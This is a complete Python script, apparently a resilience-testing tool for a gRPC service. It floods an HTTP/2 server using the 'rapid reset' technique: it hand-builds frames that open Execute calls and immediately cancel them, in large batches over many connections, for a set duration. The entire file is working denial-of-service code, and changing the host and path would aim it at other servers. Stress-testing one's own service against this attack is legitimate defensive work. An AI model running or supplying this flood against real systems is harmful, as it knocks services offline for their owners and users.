"""A hostile caller: opens calls of Execute and resets each at once, as fast as it can (HTTP/2).

``python reset_flood.py HOST:PORT SECONDS``; prints how many it has reset, and of how many
connections. Frames are written by hand (RFC 9113): no HTTP/2 library lets one do this.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import time
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM = 4, 1, 3
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
AT_ONCE = 200
"""Calls that are written together."""
HEADER_LIST = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/npucall.v1.OperatorService/Execute",
    ":authority": "flood",
    "content-type": "application/grpc",
    "te": "trailers",
}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block() -> bytes:
    """HPACK (RFC 7541): literals without indexing, without Huffman."""
    literals = ((b"\0", name.encode(), value.encode()) for name, value in HEADER_LIST.items())
    return b"".join(
        kind + bytes([len(name)]) + name + bytes([len(value)]) + value
        for kind, name, value in literals
    )


def discard(connection: socket.socket) -> None:
    """Reads what the server says, so that it never waits for this caller."""
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass
        connection.close()


def flood_one_connection(host: str, port: int, ends: float) -> int:
    """Resets calls until the server closes the connection, or until ``ends``; how many."""
    count, block = 0, header_block()
    with suppress(OSError), socket.create_connection((host, port), timeout=10) as connection:
        threading.Thread(target=discard, args=(connection,), daemon=True).start()
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        while time.monotonic() < ends and count < 2**29:
            ids = range(2 * count + 1, 2 * (count + AT_ONCE) + 1, 2)
            connection.sendall(
                b"".join(
                    frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, CANCEL)
                    for each in ids
                )
            )
            count += AT_ONCE
    return count


def main() -> None:
    host, _, port = sys.argv[1].rpartition(":")
    ends = time.monotonic() + float(sys.argv[2])
    resets = connections = 0
    while time.monotonic() < ends:
        resets += flood_one_connection(host, int(port), ends)
        connections += 1
        if connections % 50 == 0:
            time.sleep(0.05)
    print(resets, connections)


if __name__ == "__main__":
    main()
